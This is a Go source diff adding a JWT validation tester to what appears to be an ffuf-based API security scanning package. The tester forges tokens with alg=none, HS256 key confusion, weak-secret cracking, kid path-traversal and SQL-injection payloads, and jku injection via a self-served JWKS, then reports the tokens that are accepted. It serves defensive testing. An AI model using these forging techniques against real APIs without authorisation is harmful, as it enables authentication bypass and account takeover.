@@ -0,0 +1,504 @@
+// Package security provides testing modules for API security vulnerabilities.
+package security
+
+import (
+	"bufio"
+	"context"
+	"crypto"
+	"crypto/hmac"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/sha512"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"hash"
+	"math/big"
+	"net"
+	"net/http"
+	"os"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.com/ffuf/ffuf/v2/pkg/ffuf"
+)
+
+// jwtPattern matches JSON Web Tokens in headers and response bodies
+var jwtPattern = regexp.MustCompile(`eyJ[A-Za-z0-9_-]+\.eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*`)
+
+// JWTKidPayload is a kid header injection payload and the secret the server would use if vulnerable
+type JWTKidPayload struct {
+	Kid    string
+	Secret string
+}
+
+// JWTTester implements testing for JSON Web Token validation flaws (API2:2019). Bearer tokens
+// are captured from the config headers and the responses of the endpoints, tampered with,
+// and replayed. Each tampered token accepted by the endpoint is reported as a vulnerability.
+//
+// The tester shares its vulnerability type with BrokenAuthTester and is not registered with
+// the default registry. Register it with RegisterSecurityTester to replace BrokenAuthTester.
+type JWTTester struct {
+	// Configuration options
+	Tokens         []string
+	TokenHeader    string
+	TokenPrefix    string
+	PublicKeyPEM   string
+	WeakSecrets    []string
+	SecretWordlist string
+	ExpiredTokens  []string
+	KidPayloads    []JWTKidPayload
+	// JKUURL is the URL of an attacker-controlled JWKS set as the jku header. The JWKS of the
+	// signing key is served on JWKSListenAddr, which is used as the jku URL if JKUURL is empty.
+	JKUURL         string
+	JWKSListenAddr string
+}
+
+// NewJWTTester creates a new tester for JSON Web Token validation flaws
+func NewJWTTester() *JWTTester {
+	return &JWTTester{
+		Tokens:      []string{},
+		TokenHeader: "Authorization",
+		TokenPrefix: "Bearer ",
+		WeakSecrets: []string{
+			"secret", "password", "123456", "changeme", "jwt", "key", "private",
+			"admin", "test", "default", "secretkey", "secret_key", "supersecret",
+			"your-256-bit-secret", "your-secret-key", "jwt_secret", "jwtsecret",
+			"s3cr3t", "qwerty", "letmein",
+		},
+		ExpiredTokens: []string{},
+		KidPayloads: []JWTKidPayload{
+			{Kid: "../../../../../../../../dev/null", Secret: ""},
+			{Kid: "/dev/null", Secret: ""},
+			{Kid: "x' UNION SELECT 'ffuf'-- -", Secret: "ffuf"},
+		},
+	}
+}
+
+// GetType returns the type of vulnerability this tester checks for
+func (t *JWTTester) GetType() VulnerabilityType {
+	return VulnBrokenAuth
+}
+
+// GetName returns the name of the security test
+func (t *JWTTester) GetName() string {
+	return "JSON Web Token Validation"
+}
+
+// GetDescription returns a description of the security test
+func (t *JWTTester) GetDescription() string {
+	return "Tests for API endpoints that accept tampered JSON Web Tokens, such as unsigned tokens, tokens signed with the public key or a weak secret, expired tokens, and tokens with injected kid or jku headers."
+}
+
+// Test runs the security test against the target
+func (t *JWTTester) Test(ctx context.Context, config *ffuf.Config) (*TestResult, error) {
+	result := &TestResult{
+		TestName:  t.GetName(),
+		StartTime: time.Now(),
+	}
+
+	// Create a runner for making HTTP requests
+	r := newTestRunner(ctx, config)
+
+	// Extract potential endpoints from the config
+	endpoints := extractEndpointsFromConfig(config)
+
+	for _, endpoint := range endpoints {
+		for _, raw := range t.collectTokens(endpoint, config, r) {
+			if ctx.Err() != nil {
+				break
+			}
+			token, err := parseJWT(raw)
+			if err != nil {
+				continue
+			}
+			t.testToken(ctx, endpoint, token, config.Headers, r, result)
+		}
+
+		// Test expired tokens provided in the configuration
+		for _, raw := range t.ExpiredTokens {
+			if ctx.Err() != nil {
+				break
+			}
+			req, resp, err := t.send(endpoint, raw, config.Headers, r)
+			if err == nil && resp.StatusCode >= 200 && resp.StatusCode < 300 {
+				result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+					"JWT Expiration Not Enforced",
+					"The API endpoint accepts an expired token from the configuration",
+					"High", 7.5, req, resp,
+				))
+			}
+		}
+	}
+
+	result.EndTime = time.Now()
+	result.Duration = result.EndTime.Sub(result.StartTime)
+	return result, nil
+}
+
+// testToken replays tampered versions of a token that is accepted by the endpoint
+func (t *JWTTester) testToken(ctx context.Context, endpoint string, token *jwtToken, baseHeaders map[string]string, r ffuf.RunnerProvider, result *TestResult) {
+	// The original token must be accepted to compare the responses
+	_, validResp, err := t.send(endpoint, token.raw, baseHeaders, r)
+	if err != nil || validResp.StatusCode < 200 || validResp.StatusCode >= 300 {
+		return
+	}
+	accepted := func(resp ffuf.Response) bool {
+		return resp.StatusCode == validResp.StatusCode
+	}
+
+	// Tokens with an invalid signature must be rejected, otherwise the other tests are meaningless
+	tampered := token.signingInput + "." + base64.RawURLEncoding.EncodeToString([]byte("invalid-signature"))
+	if req, resp, err := t.send(endpoint, tampered, baseHeaders, r); err == nil && accepted(resp) {
+		result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+			"JWT Signature Not Verified",
+			"The API endpoint accepts a token with an invalid signature",
+			"Critical", 9.1, req, resp,
+		))
+		return
+	}
+
+	if exp, ok := token.claims["exp"].(float64); ok && time.Unix(int64(exp), 0).Before(time.Now()) {
+		result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+			"JWT Expiration Not Enforced",
+			fmt.Sprintf("The API endpoint accepts a token that expired at %s", time.Unix(int64(exp), 0).UTC().Format(time.RFC3339)),
+			"High", 7.5, &ffuf.Request{Method: "GET", Url: endpoint, Headers: t.headers(token.raw, baseHeaders)}, validResp,
+		))
+	}
+
+	// alg=none
+	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
+		if ctx.Err() != nil {
+			return
+		}
+		forged, _ := signJWT(withHeader(token.header, "alg", alg), token.claims, nil)
+		if req, resp, err := t.send(endpoint, forged, baseHeaders, r); err == nil && accepted(resp) {
+			result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+				"JWT None Algorithm Accepted",
+				fmt.Sprintf("The API endpoint accepts an unsigned token with alg '%s'", alg),
+				"Critical", 9.1, req, resp,
+			))
+			break
+		}
+	}
+
+	// HS256 key confusion with the public key
+	if t.PublicKeyPEM != "" {
+		for _, key := range []string{t.PublicKeyPEM, strings.TrimSpace(t.PublicKeyPEM) + "\n", strings.TrimSpace(t.PublicKeyPEM)} {
+			if ctx.Err() != nil {
+				return
+			}
+			forged, _ := signJWT(withHeader(token.header, "alg", "HS256"), token.claims, []byte(key))
+			if req, resp, err := t.send(endpoint, forged, baseHeaders, r); err == nil && accepted(resp) {
+				result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+					"JWT Algorithm Confusion",
+					"The API endpoint accepts a token signed with HS256 using the public key as the secret",
+					"Critical", 9.1, req, resp,
+				))
+				break
+			}
+		}
+	}
+
+	// Weak secret brute force
+	if secret, ok := t.crackSecret(ctx, token); ok {
+		req := &ffuf.Request{Method: "GET", Url: endpoint, Headers: t.headers(token.raw, baseHeaders)}
+		result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+			"JWT Weak Signing Secret",
+			fmt.Sprintf("The %s signing secret of the token was found in the wordlist: '%s'", token.header["alg"], secret),
+			"Critical", 9.1, req, validResp,
+		))
+
+		// Forge an expired token with the secret
+		expired := withHeader(token.claims, "exp", float64(time.Now().Add(-time.Hour).Unix()))
+		forged, _ := signJWT(token.header, expired, []byte(secret))
+		if req, resp, err := t.send(endpoint, forged, baseHeaders, r); err == nil && accepted(resp) {
+			result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+				"JWT Expiration Not Enforced",
+				"The API endpoint accepts a token that expired an hour ago",
+				"High", 7.5, req, resp,
+			))
+		}
+	}
+
+	// kid header injection
+	for _, payload := range t.KidPayloads {
+		if ctx.Err() != nil {
+			return
+		}
+		header := withHeader(withHeader(token.header, "alg", "HS256"), "kid", payload.Kid)
+		forged, _ := signJWT(header, token.claims, []byte(payload.Secret))
+		if req, resp, err := t.send(endpoint, forged, baseHeaders, r); err == nil && accepted(resp) {
+			result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+				"JWT kid Header Injection",
+				fmt.Sprintf("The API endpoint accepts a token with kid '%s' signed with the secret '%s'", payload.Kid, payload.Secret),
+				"Critical", 9.1, req, resp,
+			))
+			break
+		}
+	}
+
+	// jku header injection
+	if t.JKUURL != "" || t.JWKSListenAddr != "" {
+		t.testJKUInjection(endpoint, token, baseHeaders, accepted, r, result)
+	}
+}
+
+// testJKUInjection replays the token signed with a generated RSA key whose JWKS is referenced in the jku header
+func (t *JWTTester) testJKUInjection(endpoint string, token *jwtToken, baseHeaders map[string]string, accepted func(ffuf.Response) bool, r ffuf.RunnerProvider, result *TestResult) {
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		return
+	}
+	kid := "ffuf-jku-test"
+	jwks, _ := json.Marshal(map[string]interface{}{
+		"keys": []map[string]interface{}{{
+			"kty": "RSA",
+			"use": "sig",
+			"alg": "RS256",
+			"kid": kid,
+			"n":   base64.RawURLEncoding.EncodeToString(key.PublicKey.N.Bytes()),
+			"e":   base64.RawURLEncoding.EncodeToString(big.NewInt(int64(key.PublicKey.E)).Bytes()),
+		}},
+	})
+
+	jkuURL := t.JKUURL
+	if t.JWKSListenAddr != "" {
+		ln, err := net.Listen("tcp", t.JWKSListenAddr)
+		if err != nil {
+			return
+		}
+		server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			w.Header().Set("Content-Type", "application/json")
+			w.Write(jwks)
+		})}
+		go server.Serve(ln)
+		defer server.Close()
+		if jkuURL == "" {
+			jkuURL = "http://" + ln.Addr().String() + "/jwks.json"
+		}
+	}
+
+	header := withHeader(withHeader(withHeader(token.header, "alg", "RS256"), "kid", kid), "jku", jkuURL)
+	forged, err := signJWT(header, token.claims, key)
+	if err != nil {
+		return
+	}
+	if req, resp, err := t.send(endpoint, forged, baseHeaders, r); err == nil && accepted(resp) {
+		result.Vulnerabilities = append(result.Vulnerabilities, jwtVulnerability(
+			"JWT jku Header Injection",
+			fmt.Sprintf("The API endpoint accepts a token signed with a key from the attacker-controlled JWKS at %s", jkuURL),
+			"Critical", 9.1, req, resp,
+		))
+	}
+}
+
+// crackSecret tries the weak secrets and the secret wordlist against an HMAC-signed token,
+// until the context is done
+func (t *JWTTester) crackSecret(ctx context.Context, token *jwtToken) (string, bool) {
+	alg, _ := token.header["alg"].(string)
+	if jwtHash(alg) == nil {
+		return "", false
+	}
+	for _, secret := range t.WeakSecrets {
+		if token.verifyHMAC(secret) {
+			return secret, true
+		}
+	}
+	if t.SecretWordlist == "" {
+		return "", false
+	}
+	file, err := os.Open(t.SecretWordlist)
+	if err != nil {
+		return "", false
+	}
+	defer file.Close()
+	scanner := bufio.NewScanner(file)
+	for scanner.Scan() && ctx.Err() == nil {
+		if secret := scanner.Text(); token.verifyHMAC(secret) {
+			return secret, true
+		}
+	}
+	return "", false
+}
+
+// collectTokens returns the configured tokens and the tokens found in the config headers
+// and in the response of the endpoint
+func (t *JWTTester) collectTokens(endpoint string, config *ffuf.Config, r ffuf.RunnerProvider) []string {
+	seen := make(map[string]bool)
+	var tokens []string
+	add := func(values ...string) {
+		for _, value := range values {
+			if !seen[value] {
+				seen[value] = true
+				tokens = append(tokens, value)
+			}
+		}
+	}
+
+	add(t.Tokens...)
+	for _, value := range config.Headers {
+		add(jwtPattern.FindAllString(value, -1)...)
+	}
+
+	resp, err := r.Execute(&ffuf.Request{Method: "GET", Url: endpoint, Headers: config.Headers})
+	if err == nil {
+		for _, values := range resp.Headers {
+			for _, value := range values {
+				add(jwtPattern.FindAllString(value, -1)...)
+			}
+		}
+		add(jwtPattern.FindAllString(string(resp.Data), -1)...)
+	}
+	return tokens
+}
+
+// headers returns the request headers with the token set
+func (t *JWTTester) headers(token string, base map[string]string) map[string]string {
+	headers := make(map[string]string, len(base)+1)
+	for k, v := range base {
+		headers[k] = v
+	}
+	headers[t.TokenHeader] = t.TokenPrefix + token
+	return headers
+}
+
+// send requests an endpoint with a token
+func (t *JWTTester) send(endpoint, token string, baseHeaders map[string]string, r ffuf.RunnerProvider) (*ffuf.Request, ffuf.Response, error) {
+	req := &ffuf.Request{
+		Method:  "GET",
+		Url:     endpoint,
+		Headers: t.headers(token, baseHeaders),
+	}
+	resp, err := r.Execute(req)
+	return req, resp, err
+}
+
+// jwtToken is a decoded JSON Web Token
+type jwtToken struct {
+	raw          string
+	header       map[string]interface{}
+	claims       map[string]interface{}
+	signingInput string
+	signature    []byte
+}
+
+// parseJWT decodes a JSON Web Token without verifying it
+func parseJWT(raw string) (*jwtToken, error) {
+	parts := strings.Split(raw, ".")
+	if len(parts) != 3 {
+		return nil, fmt.Errorf("invalid JWT: expected 3 parts, got %d", len(parts))
+	}
+	token := &jwtToken{raw: raw, signingInput: parts[0] + "." + parts[1]}
+	for i, target := range []*map[string]interface{}{&token.header, &token.claims} {
+		data, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(parts[i], "="))
+		if err != nil {
+			return nil, fmt.Errorf("invalid JWT encoding: %w", err)
+		}
+		if err := json.Unmarshal(data, target); err != nil {
+			return nil, fmt.Errorf("invalid JWT JSON: %w", err)
+		}
+	}
+	signature, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(parts[2], "="))
+	if err != nil {
+		return nil, fmt.Errorf("invalid JWT signature encoding: %w", err)
+	}
+	token.signature = signature
+	return token, nil
+}
+
+// verifyHMAC checks if the token is signed with a secret
+func (j *jwtToken) verifyHMAC(secret string) bool {
+	alg, _ := j.header["alg"].(string)
+	h := jwtHash(alg)
+	if h == nil {
+		return false
+	}
+	mac := hmac.New(h, []byte(secret))
+	mac.Write([]byte(j.signingInput))
+	return hmac.Equal(mac.Sum(nil), j.signature)
+}
+
+// signJWT encodes and signs a token. The key is an HMAC secret for HS algorithms and an
+// RSA private key for RS256. Tokens with the none algorithm are not signed.
+func signJWT(header, claims map[string]interface{}, key interface{}) (string, error) {
+	headerJSON, err := json.Marshal(header)
+	if err != nil {
+		return "", err
+	}
+	claimsJSON, err := json.Marshal(claims)
+	if err != nil {
+		return "", err
+	}
+	signingInput := base64.RawURLEncoding.EncodeToString(headerJSON) + "." + base64.RawURLEncoding.EncodeToString(claimsJSON)
+
+	alg, _ := header["alg"].(string)
+	var signature []byte
+	switch {
+	case strings.EqualFold(alg, "none"):
+	case alg == "RS256":
+		privateKey, ok := key.(*rsa.PrivateKey)
+		if !ok {
+			return "", fmt.Errorf("RS256 requires an RSA private key")
+		}
+		digest := sha256.Sum256([]byte(signingInput))
+		signature, err = rsa.SignPKCS1v15(rand.Reader, privateKey, crypto.SHA256, digest[:])
+		if err != nil {
+			return "", err
+		}
+	case jwtHash(alg) != nil:
+		secret, _ := key.([]byte)
+		mac := hmac.New(jwtHash(alg), secret)
+		mac.Write([]byte(signingInput))
+		signature = mac.Sum(nil)
+	default:
+		return "", fmt.Errorf("unsupported JWT algorithm: %s", alg)
+	}
+	return signingInput + "." + base64.RawURLEncoding.EncodeToString(signature), nil
+}
+
+// jwtHash returns the hash function of an HMAC algorithm
+func jwtHash(alg string) func() hash.Hash {
+	switch alg {
+	case "HS256":
+		return sha256.New
+	case "HS384":
+		return sha512.New384
+	case "HS512":
+		return sha512.New
+	}
+	return nil
+}
+
+// withHeader returns a copy of a header or claims map with a value set
+func withHeader(m map[string]interface{}, key string, value interface{}) map[string]interface{} {
+	result := make(map[string]interface{}, len(m)+1)
+	for k, v := range m {
+		result[k] = v
+	}
+	result[key] = value
+	return result
+}
+
+// jwtVulnerability creates a vulnerability info for an accepted token
+func jwtVulnerability(name, evidence, severity string, cvss float64, req *ffuf.Request, resp ffuf.Response) VulnerabilityInfo {
+	return VulnerabilityInfo{
+		Type:        VulnBrokenAuth,
+		Name:        name,
+		Description: "The API endpoint does not properly validate JSON Web Tokens.",
+		Severity:    severity,
+		Request:     convertToHTTPRequest(req),
+		Response:    convertToHTTPResponse(resp),
+		Evidence:    evidence,
+		Remediation: "Verify the signature of every token with an explicitly configured algorithm and key. Reject the none algorithm, validate the exp claim, use strong random signing secrets, and do not trust kid, jku or jwk headers to select keys from untrusted locations.",
+		CVSS:        cvss,
+		CWE:         "CWE-347",
+		References: []string{
+			"https://owasp.org/API-Security/editions/2019/en/0xa2-broken-user-authentication/",
+			"https://cheatsheetseries.owasp.org/cheatsheets/JSON_Web_Token_for_Java_Cheat_Sheet.html",
+		},
+		DetectedAt: time.Now(),
+	}
+}